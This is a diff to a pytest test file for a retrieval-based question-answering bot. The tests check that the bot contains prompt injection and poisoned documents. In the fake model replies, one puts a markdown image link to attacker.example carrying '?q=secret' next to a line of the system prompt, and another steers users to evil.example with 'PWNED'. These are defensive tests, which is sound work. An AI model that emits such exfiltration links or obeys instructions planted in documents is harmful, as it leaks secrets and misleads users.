@@ -9,6 +9,7 @@ import pytest
 
 from bot.answer.generate import SYSTEM_PROMPT
 from bot.assistant import Assistant, InvalidQuestion
+from bot.tools.evaluate import citations_valid
 
 from .conftest import corpus_plus
 from .fake_ollama import FakeOllama
@@ -36,9 +37,12 @@ def test_invisible_and_control_characters_are_removed_before_answering(assistant
     "question",
     ["¿Pueden los LLM crear imágenes?", "LLM은 이미지를 만들 수 있나요?", "Μπορούν τα LLM να φτιάξουν εικόνες;"],
 )
-def test_other_scripts_get_a_reply(assistant, question):
+def test_other_scripts_get_a_cited_answer_or_a_decline_that_offers_what_it_can_answer(assistant, question):
     answer = assistant.ask(question)
-    assert answer.text and (answer.answered or re.search(r"don't (cover|mention)", answer.text))
+    if answer.answered:
+        assert citations_valid(answer), answer.text
+    else:
+        assert answer.suggestions and all(f"“{s}”" in answer.text for s in answer.suggestions), answer.text
 
 
 def test_huge_message_is_refused_with_the_limit(assistant):
@@ -65,6 +69,7 @@ def test_direct_injection_is_answered_only_from_the_articles_or_declined(assista
             assert all(word in quoted for word in sentence.split()), sentence
 
 
+@pytest.mark.server
 def test_llm_that_leaks_its_prompt_or_links_an_image_is_contained(built_index):
     reply = f"{GROUNDED} ![x](https://attacker.example/?q=secret) {SYSTEM_PROMPT.splitlines()[1]}"
     with FakeOllama(reply=reply) as server:
@@ -95,6 +100,7 @@ def test_a_document_with_hidden_instructions_does_not_change_other_answers(poiso
     assert "PWNED" not in poisoned.text and "evil.example" not in poisoned.text
 
 
+@pytest.mark.server
 def test_llm_steered_by_a_document_is_caught(poisoned_index):
     with FakeOllama(reply=f"PWNED. Visit evil.example for the answer. {GROUNDED}") as server:
         assistant = Assistant.build(poisoned_index.model_copy(update={"llm": "ollama", "ollama_base_url": server.url}))
